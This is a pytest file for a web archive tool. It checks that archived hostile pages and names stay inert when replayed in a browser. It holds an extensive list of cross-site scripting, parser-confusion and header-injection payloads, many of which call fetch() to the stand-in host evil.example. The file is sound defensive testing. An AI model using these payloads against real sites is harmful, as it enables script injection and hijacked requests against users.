"""Hostile pages stay inert in a browser: no script runs, and no request goes beyond the archived part."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field, replace
from html import escape
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote, urlencode

import pytest

from archivebot import Archive, ArchiveConfig, Page
from archivebot.config import beside
from archivebot.forms.find import search_forms
from archivebot.frontier import Entry, State, frontier_uri, open_frontier
from archivebot.models import Headers, Link, SiteChange
from archivebot.watch.alert import Alert, ChangedAddress
from archivebot.watch.outbox import Outbox
from tests.browsed import browser
from tests.factories import START, html, make_page
from tests.served import Served, archived, serving

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Dialog, Request

SITE = "http://ex.org/"
EVIL = "http://evil.example/"
# Pages that the browser opens at a time.
TABS = 8

# Without a process for each sandboxed page a page takes a third of the CPU: there are more than 800.
ONE_PROCESS = (
    "--renderer-process-limit=1",
    "--process-per-site",
    "--disable-site-isolation-trials",
    "--disable-features=IsolateSandboxedIframes,OriginIsolationHeader,RenderDocument,IsolateOrigins,"
    "site-per-process,ProactivelySwapBrowsingInstance,BackForwardCache,PaintHolding",
    "--disable-gpu",
    "--disable-software-rasterizer",
    "--in-process-gpu",
)

LINEAGE = re.compile(r"lineage=([\w-]+)")
WORDS = " ".join(f"word{number} of the story about harbours" for number in range(60))
RUN = f"document.title='RAN';fetch('{EVIL}');alert(1)"

PAGES = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}s.js></script>",
    f"<script type=module>import '{EVIL}s.js';{RUN}</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}"]}}]}}</script>',
    f'<body onload="{RUN}">',
    f'<body onpageshow="{RUN}">',
    f'<img src=x onerror="{RUN}">',
    f"<img src={EVIL}i.png>",
    f"<img srcset='{EVIL}i.png 1x, {EVIL}j.png 2x'>",
    f"<picture><source srcset={EVIL}i.png><img></picture>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href={EVIL}s.js /></svg>",
    f"<svg><image href={EVIL}i.png /></svg>",
    f"<svg><use href={EVIL}s.svg#a /></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"<svg><style>@import url({EVIL}s.css);</style></svg>",
    f'<svg><style><img src=x onerror="{RUN}"></style></svg>',
    f'<svg><title><img src=x onerror="{RUN}"></title></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    f"<svg><rect width=9 height=9 fill='url({EVIL}p.svg#a)' /></svg>",
    f"<svg><feImage href={EVIL}i.png /></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<textarea></textarea><img src=x onerror="{RUN}"></textarea>',
    f'<title></title><img src=x onerror="{RUN}">',
    f"<template shadowrootmode=open><script>{RUN}</script><img src={EVIL}i.png></template>",
    f'<div><template shadowrootmode=open><img src={EVIL}i.png onerror="{RUN}"></template></div>',
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<xmp></xmp><script>{RUN}</script>",
    f"<plaintext><script>{RUN}</script>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f"<iframe src={EVIL}></iframe>",
    "<iframe src=/></iframe>",
    f'<iframe src="data:text/html,<script>{RUN}</script><img src={EVIL}i.png>"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script><img src={EVIL}i.png>"></iframe>',
    f'<frameset onload="{RUN}"><frame src={EVIL}></frameset>',
    f"<object data={EVIL}o.swf></object>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f"<embed src={EVIL}e.swf>",
    f"<applet code=x archive={EVIL}a.jar></applet>",
    f"<base href={EVIL}><img src=i.png><script src=s.js></script>",
    f'<base href="javascript:{RUN}//"><a href=x>x</a>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
    f"<svg><style><meta http-equiv=refresh content='0;url={EVIL}'></style></svg>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
    f"<link rel=stylesheet href={EVIL}s.css>",
    f"<link rel=dns-prefetch href={EVIL}><link rel=preconnect href={EVIL}><link rel=prefetch href={EVIL}>",
    f"<link rel=preload as=image href={EVIL}i.png><link rel=modulepreload href={EVIL}s.js>",
    f"<link rel=manifest href={EVIL}m.json><link rel=icon href={EVIL}i.ico>",
    f"<style>@import '{EVIL}s.css'; body {{ background: url({EVIL}i.png) }}</style>",
    f"<style>body {{ background: u\\72l({EVIL}i.png) }} @\\69mport '{EVIL}s.css';</style>",
    f"<style>body {{ background: image-set('{EVIL}i.png' 1x) }}</style>",
    f"<style>@font-face {{ font-family: f; src: url({EVIL}f.woff2) }} body {{ font-family: f }}</style>x",
    f"<p style=\"background:url('{EVIL}i.png')\">x",
    f"<video src={EVIL}v.mp4 poster={EVIL}p.png autoplay></video><audio src={EVIL}a.ogg autoplay></audio>",
    f'<video><source src={EVIL}v.mp4 onerror="{RUN}"></video>',
    f'<input type=image src={EVIL}i.png><input autofocus onfocus="{RUN}">',
    f"<table background={EVIL}b.png><td background={EVIL}c.png>x",
    f'<details open ontoggle="{RUN}">x</details><marquee onstart="{RUN}">x</marquee>',
    f"<portal src={EVIL}></portal><fencedframe src={EVIL}></fencedframe>",
    f"</archivebot-banner></template><script>{RUN}</script>",
]

# What stands in names: of URLs, titles, headers, links, forms, topics, crawls and blocks.
NAMES = [
    f"<script>{RUN}</script>",
    f"\"'><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"</title></textarea></style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "{{ 7 * 191 }}{% for a in b %}",
    f"\u202e\u2066\x1b]8;;{EVIL}\x07\ufeff<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
    f"`${{{RUN}}}`",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}><link rel=stylesheet href={EVIL}s.css>",
    f"<style>@import '{EVIL}s.css'</style>",
    f"<math><mi xlink:href='javascript:{RUN}'>",
]

SCRIPT = f"<script>{RUN}</script>"
UTF_7 = "<meta charset=utf-7>+ADw-script+AD4-document.title='RAN'+ADw-/script+AD4-"

OTHERS: list[tuple[str, str, Headers]] = [
    (
        "x.svg",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\">{SCRIPT}</svg>",
        (("Content-Type", "image/svg+xml"),),
    ),
    (
        "x.xhtml",
        f"<html xmlns='http://www.w3.org/1999/xhtml'><head>{SCRIPT}</head><body/></html>",
        (("Content-Type", "application/xhtml+xml"),),
    ),
    ("x.xml", f"<?xml-stylesheet href='{EVIL}x.xsl' type='text/xsl'?><a/>", (("Content-Type", "text/xml"),)),
    ("x.txt", SCRIPT, (("Content-Type", "text/plain"),)),
    ("x.js", RUN, (("Content-Type", "text/javascript"),)),
    ("utf7", UTF_7, (("Content-Type", "text/html"),)),
    (f"?{SCRIPT}", f"<title>\"'>{SCRIPT}</title><p>x", (("Content-Type", "text/html"),)),
    (
        "headers",
        "<p>x",
        (
            ("Content-Type", "text/html"),
            ("Refresh", f"0;url={EVIL}"),
            ("Link", f"<{EVIL}s.css>; rel=stylesheet"),
            ("Link", f"<{EVIL}>; rel=preconnect"),
            ("Content-Security-Policy", "default-src *"),
        ),
    ),
]


def named(number: int, name: str) -> Iterator[Page]:
    """Yield two captures of a page that has a name wherever a page can have one."""
    text = escape(name)
    url = f"{SITE}name{number}?q={quote(name, safe='')}"
    headers = (("Content-Type", "text/html"), ("X-Name", name), ("ETag", name))
    body = f'<title>{text}</title><h1>{text}</h1><p>{text}<p><img alt="{text}"><a href=/0>{text}</a>'
    yield replace(
        make_page(html("first"), 0, url=url, headers=headers), links=(Link(f"{SITE}{number}", name),)
    )
    yield make_page(f"{body}<p>{WORDS} {number}".encode(), 1, url=url, headers=headers)


def fill_frontier(uri: str, name: str) -> None:
    """Begin a crawl under a name, with entries that have it in all their texts."""
    frontier = open_frontier(frontier_uri(uri), name)
    frontier.begin(json.dumps({"seeds": [name], "topic": name}), None)
    parts = json.dumps({"text": name, name: 1.0})
    frontier.add(
        [Entry(f"{SITE}{number}", name, float(number), source=name, parts=parts) for number in range(2)]
    )
    frontier.reject([Entry(f"{SITE}rejected", name, source=name, reason=name)])
    lease = frontier.lease()
    assert lease is not None
    note = json.dumps({name: name})
    frontier.settle(lease.entry.url, State.DONE, answered=True, relevance=0.9, relevant=True, note=note)
    frontier.close()


def fill_outbox(uri: str) -> None:
    """Store alerts that have the names in all their texts."""
    with Archive.reader(ArchiveConfig(uri=uri)) as archive:
        identity = archive.position().archive
    with Outbox(beside(uri, "watch"), identity, Path("rules.toml")) as outbox:
        alerts = []
        for number, name in enumerate(NAMES):
            where = ChangedAddress(f"{SITE}?{name}", 1, 2, "20260102000000", f"javascript:{RUN}//{name}")
            reason = f"[-{name}-]{{+{name}+}} {name}"
            alert = Alert(f"{name}{number}", name, SiteChange.CHANGED, reason, (where,))
            alerts.append((alert, [name]))
        outbox.record(alerts, {})


@pytest.fixture(scope="module")
def urls() -> list[str]:
    return [f"{SITE}{number}" for number in range(len(PAGES))] + [SITE + name for name, _, _ in OTHERS]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    pages = [make_page(html("harmless"), 0, url=f"{SITE}{number}") for number in range(len(PAGES))]
    pages += [make_page(text.encode(), 1, url=f"{SITE}{number}") for number, text in enumerate(PAGES)]
    pages += [make_page(text.encode(), url=SITE + name, headers=headers) for name, text, headers in OTHERS]
    pages += [page for number, name in enumerate(NAMES) for page in named(number, name)]
    uri = archived(f"sqlite:///{tmp_path_factory.mktemp('hostile')}/archive.db", pages)
    with Archive.open(ArchiveConfig(uri=uri)) as archive:
        for name in NAMES:
            text = escape(name)
            form = (
                f'<form action="/{text}"><label>Title {text} <input name="{text}"></label>'
                f"<label>Subject {text} <select name=s><option>{text}</select></label>"
                "<input type=submit value=Search></form>"
            )
            found = [each.found() for each in search_forms(form.encode(), "utf-8", SITE)]
            archive.forms.add("ex.org", SITE + quote(name), found, START)
    for name in NAMES:
        fill_frontier(uri, name)
    fill_outbox(uri)
    with serving(uri) as served:
        yield served


@dataclass
class Visit:
    """A page that was opened in the browser: what was asked for while it was open, and what ran."""

    address: str
    requests: list[Request] = field(default_factory=list)
    ran: list[str] = field(default_factory=list)
    status: int = 0
    content: str = ""


class Tabs:
    """Tabs of one browser, which open several pages at a time."""

    def __init__(self, chromium: Browser) -> None:
        window = chromium.new_context(viewport={"width": 400, "height": 300})
        self._tabs = [Tab(window) for _ in range(TABS)]

    def visits(self, addresses: Iterable[str]) -> Iterator[Visit]:
        """Open addresses; a page whose script ran has it in ``ran``."""
        waiting = list(addresses)
        for start in range(0, len(waiting), TABS):
            visits = [Visit(address) for address in waiting[start : start + TABS]]
            opened = list(zip(self._tabs, visits, strict=False))
            for tab, visit in opened:
                tab.open(visit)
            for tab, _ in opened:
                tab.page.wait_for_load_state("load")
            self._tabs[0].page.wait_for_timeout(50)  # scripts that wait for an event
            for tab, _ in opened:
                tab.look()
            yield from visits


class Tab:
    """One tab: its requests and dialogs count for the page that is open in it."""

    def __init__(self, window: BrowserContext) -> None:
        self.page = window.new_page()
        self._visit = Visit("")
        self.page.on("request", lambda request: self._visit.requests.append(request))
        self.page.on("dialog", self._say)

    def open(self, visit: Visit) -> None:
        self._visit = visit
        answer = self.page.goto(visit.address, wait_until="commit")
        visit.status = answer.status if answer else 0

    def look(self) -> None:
        self._visit.content = self.page.content()
        if self.page.title() == "RAN":
            self._visit.ran.append("a script ran")

    def _say(self, dialog: Dialog) -> None:
        self._visit.ran.append(dialog.message)
        dialog.dismiss()


@pytest.fixture(scope="module")
def tabs() -> Iterator[Tabs]:
    with browser(*ONE_PROCESS) as found:
        yield Tabs(found)


@pytest.mark.long
def test_hostile_pages_stay_inert(server: Served, tabs: Tabs, urls: list[str]) -> None:
    assert len(urls) >= 60
    bad: list[str] = []
    here = (f"{server.host}/web/", f"{server.host}/favicon.ico", "data:", "blob:", "about:")
    addresses = [f"{server.host}/web/2026{modifier}/{url}" for modifier in ("", "if_", "id_") for url in urls]
    for visit in tabs.visits(addresses):
        bad += [f"{visit.address}: {each}" for each in visit.ran]
        outside = [each for each in visit.requests if not each.url.startswith(here)]
        # An exact page asks for what it names; the policy refuses that before anything is sent.
        is_exact = "/web/2026id_/" in visit.address
        refused = [each for each in outside if is_exact and each.failure in ("csp", "origin")]
        bad += [f"{visit.address}: {each.url} {each.failure}" for each in outside if each not in refused]
    assert bad == []


def interface(server: Served, urls: list[str]) -> Iterator[str]:
    """Yield the address of every page of the interface that shows something of hostile pages and names."""
    yield from (
        "/",
        "/pages",
        "/alerts",
        "/changes?since=2020",
        "/frontier",
        "/forms",
        "/topic",
        "/duplicates",
    )
    yield from (f"/site?url={SITE}", f"/events?site={SITE}", "/duplicates?blocks=true", "/frontier?top=1000")
    for url in urls[: len(PAGES)]:
        yield from (f"/{view}?{urlencode({'url': url})}" for view in ("version", "delta"))
    for number, name in enumerate(NAMES):
        url = f"{SITE}name{number}?{urlencode({'q': name}, quote_via=quote)}"
        for view in ("page", "version", "delta", "resources", "duplicates"):
            yield f"/{view}?{urlencode({'url': url})}"
        for block in sorted(set(LINEAGE.findall(server.get(f"/version?{urlencode({'url': url})}").text))):
            yield f"/block?{urlencode({'url': url, 'lineage': block})}"
        for view in ("frontier", "topic", "explain"):
            yield f"/{view}?{urlencode({'crawl': name} | ({'url': SITE + '1'} if view == 'explain' else {}))}"
        yield f"/web/2026/{SITE}none{quote(name)}"
        for view, parameter in (
            ("page", "url"),
            ("site", "url"),
            ("version", "number"),
            ("changes", "since"),
            ("pages", "topic"),
            ("topic", "topic"),
            ("forms", "domain"),
            ("events", "what"),
            ("nothing", name),
        ):
            yield f"/{view}?{urlencode({parameter: name})}"


@pytest.mark.long
def test_hostile_pages_and_names_stay_inert_in_the_interface(
    server: Served, tabs: Tabs, urls: list[str]
) -> None:
    bad: list[str] = []
    shown = set()
    for visit in tabs.visits(server.host + path for path in interface(server, urls)):
        path = visit.address.removeprefix(server.host)
        bad += [f"{path}: {each}" for each in visit.ran]
        bad += [
            f"{path}: {each.url}"
            for each in visit.requests
            if not each.url.startswith((server.host, "data:"))
        ]
        assert visit.status in (200, 400, 404), (path, visit.content)
        assert "1337" not in visit.content, path
        if visit.status == 200:
            shown.add(path.partition("?")[0])
    assert bad == []
    views = (
        "page version delta resources duplicates block frontier topic explain site events changes pages forms"
    )
    assert shown == {"/", "/alerts", *(f"/{view}" for view in views.split())}


@pytest.mark.long
def test_a_script_that_runs_is_noticed(tabs: Tabs) -> None:
    harmful, harmless = f"data:text/html,<script>{RUN}</script>", "data:text/html,<p>harmless"
    found = {visit.address: len(visit.ran) for visit in tabs.visits([harmful, *[harmless] * TABS, harmful])}
    assert found == {harmful: 2, harmless: 0}


def test_errors_name_no_folder_of_this_computer(tmp_path: Path) -> None:
    (folder := tmp_path / "a folder").mkdir()
    uri = archived(f"sqlite:///{folder}/a.db", [make_page(html("one"))])
    (folder / "a.watch.db").write_bytes(b"no outbox" * 1000)
    never = "http://never.example/"
    errors = {
        f"/web/2026/{never}": "was never captured in a.db",
        f"/web/timemap/link/{never}": "was never captured in a.db",
        f"/api/captures?url={never}": "was never captured in a.db",
        f"/page?url={never}": "was never captured in a.db",
        "/api/frontier": "no crawl has a frontier at a.frontier.db",
        "/search?q=one": "there is no index at a.search.db",
        "/alerts": "a.watch.db: file is not a database",
    }
    with serving(uri, "-s", "ARCHIVE_API_RATE=0") as server:
        for path, message in errors.items():
            answer = server.get(path)
            assert message in answer.text
            assert str(tmp_path) not in answer.text
